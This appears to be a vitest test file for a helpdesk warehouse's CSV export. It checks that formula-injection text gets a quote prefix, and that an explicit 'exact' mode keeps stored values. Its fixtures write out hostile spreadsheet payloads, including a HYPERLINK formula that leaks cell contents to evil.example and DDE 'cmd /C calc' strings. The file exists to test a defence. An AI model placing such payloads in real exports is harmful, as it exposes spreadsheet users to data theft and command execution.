import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Warehouse } from '../src/index.ts';
import { exportDataset } from '../src/export/index.ts';
import { guardCsvCell } from '../src/csv-policy.ts';
import { tempDir } from './helpers.ts';

/**
 * Formula injection through CSV (OWASP "CSV Injection"): customer text that a spreadsheet would
 * run. Every row below is hostile in one column; the expected cells are written by hand.
 */
const dir = tempDir('helpdesk-csv-policy-');
let wh: Warehouse;
const hostile = [
  ['x:1', '=HYPERLINK("http://evil.example/?leak="&A1,"click")', ['vip', '=cmd|\' /C calc\'!A0']],
  ['x:2', '@SUM(1+1)*cmd|\' /C calc\'!A0', ['@ok']],
  ['x:3', '+1+1', ['-2+3', 'plain']],
  ['x:4', '-1+1', []],
  ['x:5', '\t=1+1', ['\r=1']],
  ['x:6', '\r=2+2', ['ok']],
  ['x:7', 'Order 42 - refund (harmless)', ['a-b']],
] as const;

beforeAll(async () => {
  wh = await Warehouse.open(join(dir, 'csv.duckdb'));
  for (const [i, [id, text, tags]] of hostile.entries()) {
    await wh.run(
      `INSERT INTO interactions (id, source, native_id, channel, intent, tags, subject, status, created_at, updated_at, reopen_count, queue_wait_seconds)
       VALUES ($1, 'x', $2, 'chat', $3, CAST($4::JSON AS VARCHAR[]), $3, 'open', TIMESTAMPTZ '2026-03-01 10:00:00+00', TIMESTAMPTZ '2026-03-01 10:00:00+00', 0, $5)`,
      [id, String(i), text, JSON.stringify(tags), -i],
    );
  }
});
afterAll(() => wh?.close());

/** The CSV's cells, parsed by DuckDB's reader as plain text (an independent CSV parser). */
async function cells(path: string, column: string): Promise<string[]> {
  const rows = await wh.all<{ v: string | null }>(
    `SELECT "${column}" AS v FROM read_csv($1, header = true, all_varchar = true, quote = '"', escape = '"') ORDER BY id`,
    [path],
  );
  return rows.map((r) => r.v ?? '');
}

describe('the CSV writer policy', () => {
  test('a server-side CSV export prefixes = + - @ tab and CR text cells with a quote, list values too', async () => {
    const manifest = await exportDataset(wh, { dataset: 'interactions', format: 'csv', outDir: join(dir, 'guard'), pii: 'include' });
    const path = join(dir, 'guard', manifest.files[0].path);
    expect(await cells(path, 'intent')).toEqual([
      `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
      `'+1+1`,
      `'-1+1`,
      `'\t=1+1`,
      `'\r=2+2`,
      'Order 42 - refund (harmless)',
    ]);
    // The subject (free text, PII included here) follows the same rule.
    expect((await cells(path, 'subject'))[0]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`);
    // Lists: one cell `a; b`, every value guarded.
    expect(await cells(path, 'tags')).toEqual([
      `vip; '=cmd|' /C calc'!A0`, `'@ok`, `'-2+3; plain`, '', `'\r=1`, 'ok', 'a-b',
    ]);
    // Numbers are not text: a negative number stays a number (0, -1, ..., -6 by hand).
    expect((await cells(path, 'queue_wait_seconds')).map(Number)).toEqual([0, -1, -2, -3, -4, -5, -6]);
    expect((await cells(path, 'queue_wait_seconds'))[1]).toMatch(/^-1/);
    expect(manifest.csv?.values).toBe('guard');
  });

  test('the exact form writes the stored values when asked for explicitly', async () => {
    const manifest = await exportDataset(wh, { dataset: 'interactions', format: 'csv', outDir: join(dir, 'exact'), pii: 'include', csvValues: 'exact' });
    const path = join(dir, 'exact', manifest.files[0].path);
    expect(await cells(path, 'intent')).toEqual(hostile.map(([, text]) => text));
    expect(manifest.csv?.values).toBe('exact');
  });

  test('the browser-side rule is the same function of the text', () => {
    expect(['=a', '+a', '-a', '@a', '\ta', '\ra', 'a=', ' =a', ''].map((t) => guardCsvCell(t))).toEqual(
      ["'=a", "'+a", "'-a", "'@a", "'\ta", "'\ra", 'a=', ' =a', ''],
    );
    expect(guardCsvCell('=a', 'exact')).toBe('=a');
  });
});
